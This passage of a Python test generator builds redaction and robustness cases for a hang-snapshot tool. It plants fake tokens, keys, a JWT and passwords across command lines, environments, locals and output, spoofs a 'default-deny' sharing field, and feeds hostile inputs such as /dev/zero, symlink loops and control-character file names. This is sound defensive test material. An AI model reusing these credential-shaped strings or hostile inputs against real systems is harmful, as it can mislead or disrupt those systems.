S_JWT = ("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJqb2JydW5uZXIiLCJpYXQiOjE3MDAwMDAwMDB9"
         ".Qm9ndXNTaWduYXR1cmVGb3JUZXN0aW5nT25seTEyMzQ")
S_PEM_BODY = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0"
S_URLPW = "pAss4UrlQ7Zk2Wm"
S_LOWER = "qzvkxmtrbwplnhgdjcfsyaoeiuqzvkxm"  # letters only, random-looking
S_HF = "hf_VtQzXbKpLmNwRsYdFgHjAeCuIoPkLmNbVcXz"
S_NONASCII = "Kennwort7Secret"
S_SHARING = "ghp_S9dJ4kL2mN7pQ1rT5vW8xZ3bC6fH0gK4jY2u"


def _p(fn, name="event"):
    def f():
        d = base(name)
        fn(d)
        return dumps(d)
    return f


def _p01(d):
    r = culprit(d)
    r["cmdline"] = list(r["cmdline"]) + ["--hf-token", S_GH, "--password", S_PW,
                                         "--resume", "https://trainer:%s@store.example/ckpt" % S_URLPW]


case("P01", "P", "GitHub token, --password and URL credentials in a rank's argv", L, _p(_p01),
     secrets=[[S_GH, True], [S_PW, True], [S_URLPW, True]], roundtrip=True)


def _p02(d):
    for r in snap(d)["ranks"]:
        r["env"] = list(r["env"]) + [["DB_PASSWORD", S_PW], ["AWS_SECRET_ACCESS_KEY", S_AWS_SECRET],
                                     ["HF_TOKEN", S_HF]]


case("P02", "P", "passwords and keys in the environment", L, _p(_p02),
     secrets=[[S_PW, True], [S_AWS_SECRET, True], [S_HF, True]])


def _p03(d):
    fr = main_thread(culprit(d))["frames"][0]
    fr["locals"] = list(fr["locals"]) + [
        {"name": "creds", "repr": "{'aws_access_key_id': '%s', 'aws_secret_access_key': '%s'}" % (S_AWS, S_AWS_SECRET), "arg": False},
        {"name": "key_pem", "repr": "'-----BEGIN RSA PRIVATE KEY-----\\n%s\\n-----END RSA PRIVATE KEY-----'" % S_PEM_BODY, "arg": False},
        {"name": "auth_header", "repr": "'Bearer %s'" % S_JWT, "arg": False},
    ]


case("P03", "P", "AWS keys, a PEM private key and a JWT in locals", L, _p(_p03),
     secrets=[[S_AWS, True], [S_AWS_SECRET, True], [S_PEM_BODY[:40], True], [S_JWT.split(".")[2], True]], roundtrip=True)


def _p04(d):
    mt = main_thread(culprit(d))
    for fr in mt["frames"]:
        fr["filename"] = fr["filename"].replace("/work/wt/why", "/home/alice/pw=%s/run" % S_PW)


case("P04", "P", "a password inside the source paths", L, _p(_p04), secrets=[[S_PW, False]])


def _p05(d):
    for r in snap(d)["ranks"]:
        for t in r["threads"]:
            t["name"] = S_LOWER


case("P05", "P", "a letters-only random token as every thread name", L, _p(_p05), secrets=[[S_LOWER, False]])


def _p06(d):
    r = culprit(d)
    r["output"][0]["text"] += "\nrequests.exceptions.HTTPError: 401 for url https://api.example/v1?token=%s\nAuthorization: Bearer %s" % (S_HF, S_JWT)


case("P06", "P", "a token URL and a JWT in the error output", L, _p(_p06),
     secrets=[[S_HF, True], [S_JWT.split(".")[2], True]])


def _p07(d):
    d["x_notes"] = {"password": S_PW}
    snap(d)["ranks"][3]["x_meta"] = {"hf_token": S_HF, "comment": "aws " + S_AWS}


case("P07", "P", "secrets in unknown fields", L, _p(_p07), secrets=[[S_PW, False], [S_HF, False], [S_AWS, False]])


def _p08(d):
    for n in snap(d)["nodes"]:
        n["warnings"] = list(n.get("warnings") or []) + ["sudo: password %s rejected" % S_PW]
        n["info"]["tools"][0]["version"] = "gdb token=" + S_GH
        n["info"]["user"] = "svc-" + S_LOWER


case("P08", "P", "secrets in node warnings, tool versions and user", L, _p(_p08),
     secrets=[[S_PW, False], [S_GH, False], [S_LOWER, False]])


def _p09(d):
    a = d["analysis"]
    a["verdict"] += " Next: curl -H 'Authorization: token %s' https://api.example" % S_GH
    a["findings"][0]["detail"] += " password=" + S_PW


case("P09", "P", "secrets in the stored verdict and findings", L, _p(_p09), secrets=[[S_GH, False], [S_PW, False]])


def _p10(d):
    d["sharing"] = "default-deny"
    snap(d)["sharing"] = "default-deny"
    culprit(d)["cmdline"] = list(culprit(d)["cmdline"]) + ["--api-key", S_SHARING]
    main_thread(culprit(d))["frames"][0]["locals"].append({"name": "secret", "repr": "'%s'" % S_SHARING, "arg": False})


case("P10", "P", "file claims it is already default-deny (`sharing` spoofed) but holds a raw token", L, _p(_p10),
     secrets=[[S_SHARING, False]])


def _p11(d):
    for p in snap(d)["processes"]:
        p["cmdline"] = list(p["cmdline"]) + ["--rdzv-conf", "password=%s" % S_PW, "--token", S_GH]
    for t in culprit(d)["threads"]:
        w = t.get("waits")
        if w:
            for fd in w.get("fds") or []:
                for o in fd.get("others") or []:
                    o["cmdline"] = ["mysql", "-p" + S_PW, "-h", "db"]


case("P11", "P", "secrets in launcher command lines and fd peers' command lines", L, _p(_p11),
     secrets=[[S_PW, False], [S_GH, False]])


def _p12(d):
    for n in snap(d)["nodes"]:
        g = n.get("gpu")
        if g:
            for x in g.get("xids") or []:
                x["text"] = x["text"] + " token=" + S_GH
            for gg in g.get("gpus") or []:
                gg["name"] = gg["name"] + " " + S_LOWER


case("P12", "P", "secrets in GPU Xid text and GPU names", L, _p(_p12, "gpu_xid"),
     secrets=[[S_GH, False], [S_LOWER, False]], base="gpu_xid")


def _p13(d):
    mt = main_thread(culprit(d))
    for fr in mt["frames"][:3]:
        fr["source"] = list(fr["source"]) + [[9999, 'API_TOKEN = "%s"  # %s' % (S_GH, S_PW)]]


case("P13", "P", "secrets in source lines", L, _p(_p13), secrets=[[S_GH, True], [S_PW, False]])


def _p14(d):
    culprit(d)["output"][0]["text"] += "\nошибка: пароль %s не подошёл" % S_NONASCII


case("P14", "P", "a password on a non-ASCII error line", L, _p(_p14), secrets=[[S_NONASCII, False]])


def _p15(d):
    for r in snap(d)["ranks"]:
        if r.get("hold"):
            r["hold"]["cgroup"] = "/job-%s" % S_LOWER
            r["hold"]["thaw"] = "echo 0 > /sys/fs/cgroup/job-%s/cgroup.freeze # token %s" % (S_LOWER, S_GH)


case("P15", "P", "secrets in a frozen rank's cgroup and thaw command", L, _p(_p15, "frozen"),
     secrets=[[S_LOWER, False], [S_GH, False]], base="frozen")

# ---------------------------------------------------------------- Q: the file itself (special invocations)
VALID = lambda: raw_base()  # noqa: E731
case("Q01", "Q", "a FIFO with no writer", R, None, invoke="fifo-nowriter", bound_s=10)
case("Q02", "Q", "a FIFO with a writer feeding a valid snapshot", R, VALID, invoke="fifo-writer", bound_s=10)
case("Q03", "Q", "/dev/zero", R, None, invoke="literal:/dev/zero", bound_s=10)
case("Q04", "Q", "/dev/urandom", R, None, invoke="literal:/dev/urandom", bound_s=10)
case("Q05", "Q", "a directory", R, None, invoke="dir", bound_s=10)
case("Q06", "Q", "a path that does not exist", R, None, invoke="missing", bound_s=10)
case("Q07", "Q", "a symlink to a valid snapshot", CL, VALID, invoke="symlink")
case("Q08", "Q", "a symlink to /dev/zero", R, None, invoke="symlink-to:/dev/zero", bound_s=10)
case("Q09", "Q", "a dangling symlink", R, None, invoke="symlink-to:/nonexistent/hs-x.json", bound_s=10)
case("Q10", "Q", "a symlink loop", R, None, invoke="symlink-loop", bound_s=10)
case("Q11", "Q", "/proc/self/status", R, None, invoke="literal:/proc/self/status", bound_s=10)
case("Q12", "Q", "/dev/stdin fed a valid snapshot through a pipe", CL, VALID, invoke="devstdin", bound_s=10)
case("Q13", "Q", "stdin `-` fed a valid snapshot", L, VALID, invoke="stdin")
case("Q14", "Q", "stdin `-` from /dev/null", R, None, invoke="stdin-null", bound_s=10)
case("Q15", "Q", "stdin `-` closed", R, None, invoke="stdin-closed", bound_s=10)
case("Q16", "Q", "stdin `-` is a directory", R, None, invoke="stdin-dir", bound_s=10)
case("Q17", "Q", "stdin `-` a slow pipe (64 kB chunks, 0.05 s apart)", L, VALID, invoke="stdin-slow", bound_s=30)
case("Q18", "Q", "a file rewritten (truncated, garbage, valid) while being read", CL, VALID, invoke="rewrite", bound_s=30)
case("Q19", "Q", "`--snapshot` names the `--load` file itself", R, VALID, invoke="same-out", modes=["snapshot"])
case("Q20", "Q", "an empty path ''", R, None, invoke="literal:", bound_s=10, modes=["print"])
case("Q21", "Q", "a path with a control character (ESC)", R, VALID, invoke="ctrlname", bound_s=10, modes=["print"])
case("Q22", "Q", "a valid snapshot under a non-ASCII file name", L, VALID, invoke="unicodename")
case("Q23", "Q", "an 8 GB sparse file of NULs", R, None, invoke="sparse", bound_s=30, bound_mb=1500, modes=["print"])
case("Q24", "Q", "a valid snapshot as .earlier (older sample)", L,
     lambda: open(os.path.join(SCEN, "event.earlier.json"), "rb").read())

# ---------------------------------------------------------------- R: versions and controls
case("R01", "R", "control: event.json unchanged", L, VALID, tui=True, roundtrip=True, xss=True, md=True)
case("R02", "R", "control: frozen.json unchanged", L, lambda: raw_base("frozen"), roundtrip=True)
case("R03", "R", "control: gpu_xid.json unchanged", L, lambda: raw_base("gpu_xid"), roundtrip=True)
case("R04", "R", "hangscope_version 99.0 (written by a newer hangscope)", L,
     _set(["snapshot", "hangscope_version"], "99.0"))


def _r05(d):
    def walk(x):
        if isinstance(x, dict):
            for v in list(x.values()):
                walk(v)
            x["x_future_field"] = 1
        elif isinstance(x, list):
            for v in x:
                walk(v)
    walk(d)


case("R05", "R", "an unknown field added to every object (a newer writer)", L, _mut(_r05))
case("R06", "R", "control: pipe.json unchanged (for O04)", L, lambda: raw_base("pipe"))


# ---------------------------------------------------------------- write
DEFAULTS = dict(modes=["print", "export", "snapshot"], bound_s=30, bound_mb=1024, field=None, secrets=[],
                markers=[], xss=False, md=False, shell=[], forged=[], tui=False, roundtrip=False,
                invoke="path", ext="json", print_max=2_000_000, gz=False, base="event")


def manifest_entry(c):
    e = dict(DEFAULTS)
    e.update({k: v for k, v in c.items() if k != "build"})
    if e["expect"] == R and "modes" not in c:
        e["modes"] = ["print", "export"]
    return e


def main():
    if "--table" in sys.argv:
        print("| id | family | case | expect | bounds | extra checks |")
        print("|---|---|---|---|---|---|")
        for c in CASES:
            e = manifest_entry(c)
            extra = []
            if e["field"]:
                extra.append("names `%s`" % e["field"])
            if e["secrets"]:
                extra.append("%d secret(s)%s" % (len(e["secrets"]), " (print too)" if any(p for _, p in e["secrets"]) else ""))
            for k in ("markers", "shell", "forged"):
                if e[k]:
                    extra.append(k)
            for k in ("xss", "md", "tui", "roundtrip"):
                if e[k]:
                    extra.append(k)
            if e["invoke"] != "path":
                extra.append("invoke=" + e["invoke"])
            print("| %s | %s | %s | %s | %ss/%sMB | %s |" % (e["id"], e["family"], e["desc"].replace("|", "\\|"),
                                                          e["expect"], e["bound_s"], e["bound_mb"], ", ".join(extra)))
        return
    os.makedirs(OUTDIR, exist_ok=True)
    man = []
    for c in CASES:
        e = manifest_entry(c)
        if c["build"] is not None:
            data = c["build"]()
            fn = os.path.join(OUTDIR, "%s.%s" % (c["id"], e["ext"]))
            with open(fn, "wb") as f:
                f.write(data)
            e["file"] = fn
            e["size"] = len(data)
        else:
            e["file"] = None
        man.append(e)
    with open(os.path.join(OUTDIR, "manifest.json"), "w") as f:
        json.dump(man, f, indent=1)
    print("%d cases written to %s" % (len(man), OUTDIR))


if __name__ == "__main__":
    main()
